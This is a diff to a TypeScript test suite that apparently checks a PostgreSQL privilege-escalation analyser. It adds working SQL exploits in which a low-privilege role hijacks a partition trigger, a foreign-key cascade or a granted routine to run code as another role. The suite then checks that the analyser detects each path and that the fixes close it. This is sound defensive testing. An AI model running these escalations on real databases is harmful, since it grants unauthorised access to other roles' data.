@@ -23,8 +23,8 @@ interface Escalation {
   exploit: (actors: Actors) => Promise<unknown>;
   /** Takes the effects of a successful exploit back. */
   undo?: string;
-  /** What a person does besides the statements. */
-  alsoClose?: (actors: Actors) => Promise<void>;
+  /** What closes it where no statement takes a right away: the owner of something has to change. */
+  isClosedBy?: string;
 }
 
 interface Actors {
@@ -179,7 +179,7 @@ const ESCALATIONS: readonly Escalation[] = [
     setup: `${SECRET}
       create table public.orders (id int); alter table public.orders owner to boss;
       create function loot.stamp() returns trigger language plpgsql as 'begin return new; end';
-      alter function loot.stamp() owner to app; grant execute on function loot.stamp() to boss;
+      alter function loot.stamp() owner to app;
       create trigger stamp before insert on public.orders for each row execute function loot.stamp()`,
     rules: ["trojan"],
     target: "boss",
@@ -227,9 +227,64 @@ const ESCALATIONS: readonly Escalation[] = [
     undo: "drop view shop.orders; drop function shop.take(); create table shop.orders (id int); alter table shop.orders owner to boss",
   },
   {
+    title: "[PE-08] the owner of a partition acts as who writes through its parent",
+    majors: ALL,
+    setup: `${SECRET} revoke create on schema public from public; create table public.orders (id int) partition by list (id); alter table public.orders owner to boss;
+      grant usage on schema public to app; create schema app_own authorization app; grant usage on schema app_own to boss;
+      create table public.part partition of public.orders default; alter table public.part owner to app`,
+    rules: ["trojan", "trojan"],
+    target: "boss",
+    isClosedBy: "alter table public.part owner to boss",
+    exploit: async (actors) => {
+      await actors.asApp(
+        `create or replace function app_own.mine() returns trigger language plpgsql as 'begin ${TAKE}; return new; end'; ` +
+          "drop trigger if exists mine on public.part; create trigger mine before insert on public.part for each row execute function app_own.mine()",
+      );
+      await actors.asBoss("insert into public.orders values (1)");
+      await taken(actors);
+    },
+    undo: "drop function app_own.mine() cascade",
+  },
+  {
+    title: "[PE-08] REFERENCES is enough up to 17, by what a foreign key cascades to",
+    majors: [14, 15, 16, 17],
+    setup: `${SECRET} create table public.orders (id int primary key); alter table public.orders owner to boss;
+      grant usage on schema public to app; grant references on public.orders to app; create schema app_own authorization app; grant usage on schema app_own to boss`,
+    rules: ["references", "references"],
+    target: "boss",
+    exploit: async (actors) => {
+      await actors.asApp(
+        `create function app_own.mine() returns trigger language plpgsql as 'begin ${TAKE}; return null; end';
+         create table app_own.lines (id int references public.orders on delete cascade);
+         create constraint trigger late after delete on app_own.lines deferrable initially deferred for each row execute function app_own.mine()`,
+      );
+      await actors.asBoss("insert into public.orders values (1)");
+      await actors.asApp("insert into app_own.lines values (1)");
+      await actors.asBoss("delete from public.orders");
+      await taken(actors);
+    },
+    undo: "drop table app_own.lines; drop function app_own.mine(); truncate public.orders",
+  },
+  {
+    title: "[PE-08] the owner of a routine acts as whom it was granted to",
+    majors: ALL,
+    setup: `${SECRET} create schema app_own authorization app; grant usage on schema app_own to boss;
+      set role app; create function app_own.total() returns int language plpgsql as 'begin return 1; end';
+      revoke execute on function app_own.total() from public; grant execute on function app_own.total() to boss; reset role`,
+    rules: ["granted-routine"],
+    target: "boss",
+    exploit: async (actors) => {
+      await actors.asApp(
+        `create or replace function app_own.total() returns int language plpgsql as 'begin ${TAKE}; return 1; end'`,
+      );
+      await actors.asBoss("select app_own.total()");
+      await taken(actors);
+    },
+  },
+  {
     title: "[PE-09] CREATE on a schema of the search_path catches names",
     majors: ALL,
-    setup: `${SECRET} grant create, usage on schema public to app; alter role boss set search_path = public`,
+    setup: `${SECRET} revoke create on schema public from public; grant create, usage on schema public to app; alter role boss set search_path = public`,
     rules: ["search-path", "search-path", "search-path"],
     target: "boss",
     exploit: async (actors) => {
@@ -339,8 +394,10 @@ describe.each(ALL.filter(hasMajor))("[ACC-08] on PostgreSQL %i", (major) => {
       expect(path?.steps.map(({ rule }) => rule)).toEqual(escalation.rules);
       await escalation.exploit(actors);
       if (escalation.undo) await actors.asSuperuser(escalation.undo);
-      for (const statement of path?.cut ?? []) await actors.asSuperuser(statement);
-      expect(path?.cut?.length).toBeGreaterThan(0);
+      const closing = escalation.isClosedBy === undefined ? path?.cut : [escalation.isClosedBy];
+      for (const statement of closing ?? []) await actors.asSuperuser(statement);
+      expect(closing?.length).toBeGreaterThan(0);
+      if (escalation.isClosedBy !== undefined) expect(path?.cut).toBeUndefined();
       await expect(escalation.exploit(actors)).rejects.toThrow();
       expect(await find(actors, escalation)).toBeUndefined();
     } finally {
